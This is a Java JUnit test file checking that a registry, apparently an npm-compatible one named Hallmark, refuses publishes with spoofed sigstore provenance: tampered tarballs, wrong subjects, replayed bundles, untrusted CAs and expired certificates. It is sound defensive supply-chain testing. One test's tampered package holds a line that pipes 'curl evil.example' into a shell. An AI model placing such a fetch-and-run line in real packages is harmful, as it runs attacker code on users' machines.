package dev.hallmark.interop;

import static dev.hallmark.interop.ProvenancePublish.body;
import static dev.hallmark.interop.ProvenancePublish.purl;
import static dev.hallmark.interop.ProvenancePublish.sign;
import static dev.hallmark.interop.ProvenancePublish.statement;
import static dev.hallmark.interop.ProvenancePublish.tarball;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.io.Writer;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;

/**
 * Spoofed provenance is refused on publish (issue 6 item 1): each request is npm 11's PUT with a real sigstore-js
 * bundle made through a test Hallmark, broken in one way; each is answered 422 with npm's message shape and leaves
 * nothing behind — the packument byte for byte as before, no tarball, no attestations, nothing added to the log. A
 * well-formed publish of another package, made the same way, is accepted first, so each refusal is the broken part's.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class NpmProvenanceRefusalsTest {
    static final String NAME = "@acme/widget";
    static final String VERSION = "1.1.0";
    static final String REPOSITORY_URL = "git+https://github.com/acme/widget.git";
    static final String PREFIX = "Error verifying sigstore provenance bundle: ";

    @TempDir
    static Path dir;
    static DevHallmark hallmark;
    static DevHallmark elsewhere;
    static String alice;

    static Map<String, String> claims(String repository) {
        return Map.ofEntries(Map.entry("repository", repository), Map.entry("ref", "refs/tags/v1.1.0"),
                Map.entry("workflow_ref", repository + "/.github/workflows/release.yml@refs/tags/v1.1.0"),
                Map.entry("sha", "3c2b1a09f8e7d6c5b4a39281706f5e4d3c2b1a09"),
                Map.entry("runner_environment", "github-hosted"), Map.entry("repository_visibility", "public"),
                Map.entry("event_name", "push"), Map.entry("repository_id", "4242"),
                Map.entry("repository_owner_id", "77"), Map.entry("run_id", "9002"), Map.entry("run_attempt", "1"));
    }

    static final Map<String, String> ACME = claims("acme/widget");

    @BeforeAll
    static void start() throws Exception {
        hallmark = DevHallmark.start(dir.resolve("data"));
        elsewhere = DevHallmark.start(dir.resolve("elsewhere"));
        alice = hallmark.login("alice");
        byte[] first = tarball(NAME, "1.0.0", REPOSITORY_URL, "module.exports = 1;\n");
        ObjectNode plain = body(NAME, "1.0.0", first, REPOSITORY_URL, "{}");
        ((ObjectNode) plain.get("_attachments")).remove(NAME + "-1.0.0.sigstore");
        assertThat(hallmark.send("PUT", "/@acme%2fwidget", alice, plain.toString()).statusCode()).isEqualTo(201);
        // the control: a package published with provenance made exactly as the refused ones are
        Map<String, String> gadget = claims("acme/gadget");
        byte[] tgz = tarball("@acme/gadget", "1.0.0", "git+https://github.com/acme/gadget.git", "module.exports = 2;\n");
        String bundle = sign(hallmark, gadget, statement(purl("@acme/gadget", "1.0.0"), tgz, gadget), dir);
        HttpResponse<String> published = hallmark.send("PUT", "/@acme%2fgadget", alice,
                body("@acme/gadget", "1.0.0", tgz, "git+https://github.com/acme/gadget.git", bundle).toString());
        assertThat(published.statusCode()).as(published.body()).isEqualTo(201);
    }

    @AfterAll
    static void stop() {
        if (elsewhere != null) {
            elsewhere.close();
        }
        if (hallmark != null) {
            hallmark.close();
        }
    }

    static byte[] widget(String code) {
        return tarball(NAME, VERSION, REPOSITORY_URL, code);
    }

    /** PUTs the body and checks the 422 and that nothing was stored or logged; returns the refusal's message. */
    static String refused(ObjectNode body) throws Exception {
        String packument = hallmark.send("GET", "/@acme%2fwidget", null, null).body();
        long logSize = treeSize();
        HttpResponse<String> put = hallmark.send("PUT", "/@acme%2fwidget", alice, body.toString());
        assertThat(put.statusCode()).as(put.body()).isEqualTo(422);
        String message = DevHallmark.JSON.readTree(put.body()).get("error").asText();
        assertThat(message).startsWith(PREFIX);
        assertThat(hallmark.send("GET", "/@acme%2fwidget", null, null).body()).isEqualTo(packument);
        assertThat(hallmark.send("GET", "/@acme/widget/-/widget-" + VERSION + ".tgz", null, null).statusCode()).isEqualTo(404);
        assertThat(hallmark.send("GET", "/-/npm/v1/attestations/@acme%2fwidget@" + VERSION, null, null).statusCode())
                .isEqualTo(404);
        assertThat(treeSize()).as("no publish attestation logged").isEqualTo(logSize);
        return message.substring(PREFIX.length());
    }

    static long treeSize() throws Exception {
        HttpResponse<String> info = DevHallmark.HTTP.send(java.net.http.HttpRequest.newBuilder(
                java.net.URI.create(hallmark.server.urls().log() + "/api/v1/log")).build(), HttpResponse.BodyHandlers.ofString());
        return DevHallmark.JSON.readTree(info.body()).get("treeSize").asLong();
    }

    @Test
    @Order(1)
    void aTarballOtherThanTheSignedOneIsRefused() throws Exception {
        byte[] signed = widget("module.exports = 'reviewed';\n");
        String bundle = sign(hallmark, ACME, statement(purl(NAME, VERSION), signed, ACME), dir);
        byte[] tampered = widget("module.exports = require('child_process').execSync('curl evil.example | sh');\n");
        assertThat(refused(body(NAME, VERSION, tampered, REPOSITORY_URL, bundle)))
                .isEqualTo("Provenance subject digest does not match the package");
    }

    @Test
    @Order(1)
    void aSubjectNamingAnotherPurlIsRefused() throws Exception {
        byte[] tgz = widget("module.exports = 3;\n");
        String wrong = "pkg:npm/@acme/widget@" + VERSION; // the scope's @ not encoded, as npm never writes it
        String bundle = sign(hallmark, ACME, statement(wrong, tgz, ACME), dir);
        assertThat(refused(body(NAME, VERSION, tgz, REPOSITORY_URL, bundle))).isEqualTo("Provenance subject " + wrong
                + " does not match the package: " + purl(NAME, VERSION));
    }

    @Test
    @Order(1)
    void anotherPackagesBundleReplayedIsRefused() throws Exception {
        JsonNode served = DevHallmark.JSON.readTree(hallmark.send("GET", "/-/npm/v1/attestations/@acme%2fgadget@1.0.0",
                null, null).body());
        JsonNode provenance = null;
        for (JsonNode a : served.get("attestations")) {
            if (a.get("predicateType").asText().equals("https://slsa.dev/provenance/v1")) {
                provenance = a.get("bundle");
            }
        }
        assertThat(provenance).isNotNull();
        assertThat(refused(body(NAME, VERSION, widget("module.exports = 4;\n"), REPOSITORY_URL, provenance.toString())))
                .isEqualTo("Provenance subject " + purl("@acme/gadget", "1.0.0") + " does not match the package: "
                        + purl(NAME, VERSION));
    }

    @Test
    @Order(1)
    void aBuildOfAnotherRepositoryIsRefused() throws Exception {
        Map<String, String> evil = claims("evil/widget");
        byte[] tgz = widget("module.exports = 5;\n");
        String bundle = sign(hallmark, evil, statement(purl(NAME, VERSION), tgz, evil), dir);
        assertThat(refused(body(NAME, VERSION, tgz, REPOSITORY_URL, bundle))).isEqualTo("Failed to validate repository"
                + " information: package.json: \"repository.url\" is \"" + REPOSITORY_URL + "\", expected to match"
                + " \"https://github.com/evil/widget\" from provenance");
    }

    @Test
    @Order(1)
    void aBundleFromAnotherInstancesCaIsRefused() throws Exception {
        byte[] tgz = widget("module.exports = 6;\n");
        // certified by another Hallmark's CA (for its own issuer's job), logged in this instance's log
        String bundle = sign(elsewhere, hallmark, ACME, statement(purl(NAME, VERSION), tgz, ACME), dir);
        assertThat(refused(body(NAME, VERSION, tgz, REPOSITORY_URL, bundle))).startsWith("CERTIFICATE_UNTRUSTED: ");
    }

    /** Last: it moves the server's clock forward for good. */
    @Test
    @Order(2)
    void aCertificateExpiredWhenTheEntryWasLoggedIsRefused() throws Exception {
        byte[] tgz = widget("module.exports = 7;\n");
        Path payload = Files.writeString(dir.resolve("late-statement.json"), statement(purl(NAME, VERSION), tgz, ACME));
        Path bundleFile = dir.resolve("late.sigstore.json");
        String token = hallmark.idToken(hallmark.job(ACME), "sigstore");
        Process node = new ProcessBuilder("node", NodeClients.scripts().resolve("sign-keyless-late.mjs").toString(),
                hallmark.server.urls().ca().toString(), hallmark.server.urls().log().toString(), token,
                payload.toString(), bundleFile.toString()).directory(NodeClients.scripts().toFile())
                .redirectErrorStream(true).start();
        BufferedReader out = new BufferedReader(new InputStreamReader(node.getInputStream(), StandardCharsets.UTF_8));
        assertThat(out.readLine()).isEqualTo("certificate issued");
        hallmark.advance(Duration.ofMinutes(30)); // past the certificate's notAfter before the log sees the entry
        try (Writer in = node.outputWriter()) {
            in.write("\n");
        }
        assertThat(node.waitFor(60, TimeUnit.SECONDS)).isTrue();
        assertThat(out.readLine()).isEqualTo("signed");
        assertThat(node.exitValue()).isZero();
        String bundle = DevHallmark.JSON.readTree(bundleFile.toFile()).toString();
        assertThat(refused(body(NAME, VERSION, tgz, REPOSITORY_URL, bundle)))
                .startsWith("CERTIFICATE_NOT_VALID_AT_SIGNING_TIME: ");
    }
}
